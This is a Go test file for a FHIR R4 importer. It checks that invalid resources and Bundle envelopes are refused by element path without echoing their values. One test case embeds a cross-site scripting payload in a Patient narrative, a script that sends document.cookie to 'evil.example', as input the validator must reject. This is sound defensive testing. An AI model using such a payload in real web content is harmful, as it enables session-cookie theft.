package fhirin

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// An outside probe (h-outside2) imported structurally invalid R4 and every
// resource was accepted. Each is refused now, by fhirr4.Check, with the
// element's path and never its value; Read fails, so the importer commits
// nothing (docs/import.md, "Errors"). A Bundle
// entry's resource and a contained resource are checked as resources.
func TestReadRefusesInvalidR4(t *testing.T) {
	valid := `{"resourceType":"Patient","id":"p","gender":"female"}`
	for _, tc := range []struct {
		name, file, body string
		err              error
		path             string
	}{
		{"a decimal as a string", "Observation.ndjson", `{"resourceType":"Observation","id":"o","status":"final","code":{"text":"x"},"subject":{"reference":"Patient/p"},"valueQuantity":{"value":"SECRET 5"}}`, ErrJSON, "Observation.valueQuantity.value"},
		{"a list as an object", "Device.ndjson", `{"resourceType":"Device","id":"d","patient":{"reference":"Patient/p"},"udiCarrier":{"deviceIdentifier":"SECRET"}}`, ErrJSON, "Device.udiCarrier"},
		{"an unknown element", "Observation.ndjson", `{"resourceType":"Observation","id":"o","status":"final","code":{"text":"x"},"subject":{"reference":"Patient/p"},"fooBar":"SECRET"}`, ErrStructure, "Observation.fooBar"},
		{"an unknown element in a contained resource", "Observation.ndjson", `{"resourceType":"Observation","id":"o","status":"final","code":{"text":"x"},"subject":{"reference":"Patient/p"},"contained":[{"resourceType":"Practitioner","id":"pr","fooBar":"SECRET"}]}`, ErrStructure, "Observation.contained[0].fooBar"},
		{"30 February", "Patient.ndjson", `{"resourceType":"Patient","id":"p","birthDate":"1931-02-30"}`, ErrValue, "Patient.birthDate"},
		{"a day-first dateTime", "Immunization.ndjson", `{"resourceType":"Immunization","id":"i","status":"completed","vaccineCode":{"text":"x"},"patient":{"reference":"Patient/p"},"occurrenceDateTime":"14/03/2024"}`, ErrValue, "Immunization.occurrenceDateTime"},
		{"a narrative with a script", "Patient.ndjson", `{"resourceType":"Patient","id":"p","text":{"status":"generated","div":"<div xmlns=\"http://www.w3.org/1999/xhtml\">SECRET<script>fetch('https://evil.example/?'+document.cookie)</script></div>"}}`, ErrValue, "Patient.text.div"},
		{"a name with a control character", "Patient.ndjson", `{"resourceType":"Patient","id":"p","name":[{"family":"SECRET\u0007"}]}`, ErrValue, "Patient.name[0].family"},
		{"an Immunization without vaccineCode", "Immunization.ndjson", `{"resourceType":"Immunization","id":"i","status":"completed","patient":{"reference":"Patient/p"},"occurrenceDateTime":"2024-03-14"}`, ErrStructure, "Immunization.vaccineCode"},
		{"an unknown element in a Bundle entry", "b.json", `{"resourceType":"Bundle","type":"collection","entry":[{"fullUrl":"urn:uuid:5c6d7e8f-0000-4000-8000-000000000001","resource":` + valid + `},{"resource":{"resourceType":"Observation","id":"o","status":"final","code":{"text":"x"},"subject":{"reference":"Patient/p"},"fooBar":"SECRET"}}]}`, ErrStructure, "Observation.fooBar"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			body := tc.body
			if strings.HasSuffix(tc.file, ".ndjson") && tc.file != "Patient.ndjson" {
				if err := os.WriteFile(filepath.Join(dir, "Patient.ndjson"), []byte(valid+"\n"), 0o644); err != nil {
					t.Fatal(err)
				}
				body += "\n"
			}
			if err := os.WriteFile(filepath.Join(dir, tc.file), []byte(body), 0o644); err != nil {
				t.Fatal(err)
			}
			_, err := readAll(t, dir)
			var fe *Error
			if !errors.As(err, &fe) || !errors.Is(err, tc.err) || fe.Path != tc.path {
				t.Fatalf("err = %v, want %v at %s", err, tc.err, tc.path)
			}
			if strings.Contains(err.Error(), "SECRET") {
				t.Errorf("the error quotes content: %v", err)
			}
		})
	}
}

// A Bundle's envelope (the Bundle without its entries' resources) is
// checked by fhirr4.Check as a resource is, with the same errors: before,
// an unknown element in the Bundle or in an entry, a search.score that is
// a string, a request without its url or a timestamp in another format
// were imported, and a fullUrl or a request.method of the wrong kind was
// refused as "Bundle.entry[0]: not a Bundle entry", naming no element.
// Nothing is yielded: the envelope is checked before any entry is read.
func TestReadChecksBundleEnvelope(t *testing.T) {
	patient := `"resource":{"resourceType":"Patient","id":"p","gender":"female"}`
	for _, tc := range []struct {
		name, members, entry string
		err                  error
		path                 string
	}{
		{"an unknown element", `"fooBar":"SECRET",`, `{` + patient + `}`, ErrStructure, "Bundle.fooBar"},
		{"an unknown element in an entry", ``, `{"bogus":"SECRET",` + patient + `}`, ErrStructure, "Bundle.entry[1].bogus"},
		{"type a number", `"type":5,`, `{` + patient + `}`, ErrJSON, "Bundle.type"},
		{"entry an object", `"entry":{` + patient + `},`, `{` + patient + `}`, ErrJSON, "Bundle.entry"},
		{"a fullUrl a number", ``, `{"fullUrl":5,` + patient + `}`, ErrJSON, "Bundle.entry[1].fullUrl"},
		{"a request.method a number", ``, `{"request":{"method":5,"url":"Patient/p"},` + patient + `}`, ErrJSON, "Bundle.entry[1].request.method"},
		{"a request without url", ``, `{"request":{"method":"PUT"},` + patient + `}`, ErrStructure, "Bundle.entry[1].request.url"},
		{"a search.score a string", ``, `{"search":{"mode":"match","score":"SECRET"},` + patient + `}`, ErrJSON, "Bundle.entry[1].search.score"},
		{"a timestamp day first", `"timestamp":"14/03/2024",`, `{` + patient + `}`, ErrValue, "Bundle.timestamp"},
		{"a resource null", ``, `{"fullUrl":"urn:uuid:5c6d7e8f-0000-4000-8000-000000000002","resource":null}`, ErrJSON, "Bundle.entry[1].resource"},
		{"an entry a string", ``, `"SECRET"`, ErrJSON, "Bundle.entry[1]"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			typ := `"type":"transaction",`
			if strings.Contains(tc.members, `"type"`) {
				typ = ""
			}
			entries := `"entry":[{"fullUrl":"urn:uuid:5c6d7e8f-0000-4000-8000-000000000001","request":{"method":"POST","url":"Patient"},` + patient + `},` + "\n" + tc.entry + `]`
			if strings.Contains(tc.members, `"entry"`) {
				entries = strings.TrimSuffix(tc.members, ",")
				tc.members = ""
			}
			body := `{"resourceType":"Bundle",` + typ + tc.members + entries + `}`
			if err := os.WriteFile(filepath.Join(dir, "b.json"), []byte(body), 0o644); err != nil {
				t.Fatal(err)
			}
			items, err := readAll(t, dir)
			var fe *Error
			if !errors.As(err, &fe) || !errors.Is(err, tc.err) || fe.Path != tc.path {
				t.Fatalf("err = %v, want %v at %s", err, tc.err, tc.path)
			}
			want := "b.json:1"
			if strings.HasPrefix(tc.path, "Bundle.entry[1]") {
				want = "b.json:2" // the entry's line
			}
			if fe.Where != want {
				t.Errorf("at %s, want %s", fe.Where, want)
			}
			if len(items) > 0 {
				t.Errorf("%d items yielded", len(items))
			}
			if strings.Contains(err.Error(), "SECRET") {
				t.Errorf("the error quotes content: %v", err)
			}
		})
	}
}
